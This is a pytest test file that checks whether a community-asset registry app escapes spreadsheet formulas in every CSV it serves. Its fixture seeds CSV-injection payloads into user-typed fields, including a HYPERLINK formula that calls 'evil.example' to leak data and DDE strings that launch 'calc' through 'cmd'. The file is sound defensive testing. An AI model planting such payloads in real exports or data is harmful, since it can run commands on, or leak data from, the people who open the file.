"""CSV injection (issue 12 item 5, issue 9 item 1): every CSV the app serves escapes formulas.

Text typed by groups and officers that starts with ``=``, ``+``, ``-`` or ``@`` is seeded into every
text that reaches a CSV (a nomination's description and reasons, a group's name, a Right to
Challenge service, a clawback condition's beneficiary and reference); every public route that
answers ``text/csv`` is found in ``app.url_map``, parsed with the csv module, and each of its cells
is checked: none may start a formula, and the seeded text must be there, escaped with a leading '.
"""

import csv
import io
import re
from datetime import date

import pytest

from registry import db, transfers
from registry.formats import csvfile
from registry.workflow import engine

from .test_privacy import public_endpoints
from .workflow_world import build, nominate

FORMULAS = {
    "land": '=HYPERLINK("http://evil.example/?leak=1","Click me")',
    "reasons": "+cmd|' /C calc'!A0",
    "group": "@SUM(1+1)*cmd|' /C calc'!A0",
    "service": "-2+3+cmd|' /C calc'!A0",
    "beneficiary": "=1+1",
    "registered_ref": "@A1",
    "tab": "\t=2+2",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
EXPECTED_CSV_ROUTES = {
    "/registers/assets-of-community-value.csv", "/registers/unsuccessful-nominations.csv",
    "/registers/right-to-challenge-decisions.csv", "/registers/assets-of-community-value/planning-data.csv",
    "/transfers/obligations?f=csv", "/api/transfers/obligations?f=csv",
}


@pytest.fixture()
def seeded(db_session):
    world = build()
    world.group.name = FORMULAS["group"]
    world.cig.name = FORMULAS["group"] + " trust"
    db.session.flush()
    today = date(2026, 3, 2)
    listed = nominate(world, today, land_description=FORMULAS["land"])
    engine.transition(listed.id, "begin_validation", world.officer, {}, today)
    engine.transition(listed.id, "accept_nomination", world.officer, {"owner_notified_on": today.isoformat()}, today)
    engine.transition(listed.id, "list", world.decision_maker, {"reasons": FORMULAS["reasons"]}, today)
    world2 = build()
    world2.group.name = FORMULAS["group"]
    db.session.flush()
    declined = nominate(world2, today, land_description=FORMULAS["land"])
    engine.transition(declined.id, "begin_validation", world2.officer, {}, today)
    engine.transition(declined.id, "accept_nomination", world2.officer, {"owner_notified_on": today.isoformat()},
                      today)
    engine.transition(declined.id, "decline", world2.decision_maker,
                      {"decline_reason": "not_community_value", "reasons": FORMULAS["reasons"]}, today)
    challenge = engine.open_case(
        "right_to_challenge", "submit_eoi", world.cig_rep,
        {"service_name": FORMULAS["service"], "relevant_body_type": "charitable_body",
         "outcomes": FORMULAS["tab"], "financial_resources": "x", "capability_evidence": "y"},
        date(2026, 6, 1), authority_code=world.asset.authority_code, organisation_id=world.cig.id)
    engine.transition(challenge.id, "notify_timetable", world.officer, {"decision_by": "2026-08-31"},
                      date(2026, 6, 20))
    engine.transition(challenge.id, "reject", world.decision_maker,
                      {"grounds": ["G1"], "reasons": FORMULAS["reasons"]}, date(2026, 8, 1))
    world3 = build()
    world3.group.name = FORMULAS["group"]
    db.session.flush()
    transfers.create(
        {"tenure": "freehold", "completion_date": "2026-04-01", "market_value": "250000",
         "consideration": "150000",
         "conditions": [{"beneficiary": FORMULAS["beneficiary"], "instrument": "lr_restriction",
                         "registered_ref": FORMULAS["registered_ref"], "method": "full", "period_years": 5,
                         "triggers": ["disposal"]}]},
        world3.officer, date(2026, 4, 2), asset_id=world3.asset.id, organisation_id=world3.group.id)
    db.session.commit()
    return world


def csv_routes(app, client) -> dict[str, str]:
    """Every public GET route that answers text/csv, with or without ?f=csv, filled with register names."""
    from registry import registers

    found = {}
    for rule in public_endpoints(app):
        paths = [rule.rule]
        if "<name>" in rule.rule:
            paths = [re.sub(r"<(?:[^:<>]+:)?name>", n, rule.rule) for n in registers.REGISTERS]
        elif rule.arguments:
            continue
        for path in paths:
            for query in ("", "?f=csv"):
                response = client.get(path + query)
                if response.status_code == 200 and response.mimetype == "text/csv":
                    found[path + query] = response.get_data(as_text=True)
                    break
    return found


def test_every_csv_route_escapes_formulas(app, client, seeded):
    found = csv_routes(app, client)
    assert set(found) == EXPECTED_CSV_ROUTES
    for route, body in found.items():
        rows = list(csv.reader(io.StringIO(body)))
        assert len(rows) > 1, f"{route} has no rows"
        cells = [c for row in rows for c in row]
        starts = [c for c in cells if c.startswith(DANGEROUS)]
        assert starts == [], f"{route} starts a formula: {starts[:3]}"
        escaped = {c for c in cells if c[1:] in FORMULAS.values() or c[1:] in {FORMULAS["group"] + " trust"}}
        assert escaped and all(c.startswith("'") for c in escaped), route


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"),
    ("+44 113", "'+44 113"),
    ("-cmd", "'-cmd"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("a=1", "a=1"),
    ("", ""),
    (None, ""),
    (-5, -5),  # numbers stay numbers
    (2.5, 2.5),
    (date(2026, 6, 1), "2026-06-01"),
    (["disposal", "=x"], "disposal; =x"),
])
def test_cell_escapes_as_owasp_advises(value, expected):
    assert csvfile.cell(value) == expected


def test_a_written_number_is_not_escaped_but_a_typed_one_is():
    body = csvfile.write(("n", "t"), [{"n": -3, "t": "-3"}])
    assert list(csv.reader(io.StringIO(body))) == [["n", "t"], ["-3", "'-3"]]


# ---------------------------------------------------------------- officers' CSVs (not public, so not walked above)

OFFICER_CSV_ROUTES = {"/cases/<int:case_id>/support/supporters.csv"}


def test_the_officers_supporter_list_escapes_formulas(app, client, db_session):
    """A resident's name is typed by anyone: the verified supporters CSV (issue 15 item 5) escapes it."""
    from registry import support_statements as support

    from .conftest import sign_in

    assert {r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv") and "support" in r.rule} \
        == OFFICER_CSV_ROUTES
    world = build()
    case = nominate(world, date(2026, 3, 2))
    support.open_statement(world.rep, case.id, "distance", "5000")
    supporter = support.add_supporter(case.id, FORMULAS["land"], "formula@example.org", "LS1 1UR")
    support.confirm(support.confirmation_token(supporter), "LS1 1UR")
    db.session.commit()
    sign_in(client, world.officer)
    rows = list(csv.reader(io.StringIO(client.get(f"/cases/{case.id}/support/supporters.csv").get_data(as_text=True))))
    assert rows[1][0] == "'" + FORMULAS["land"]
    assert [c for row in rows for c in row if c.startswith(DANGEROUS)] == []
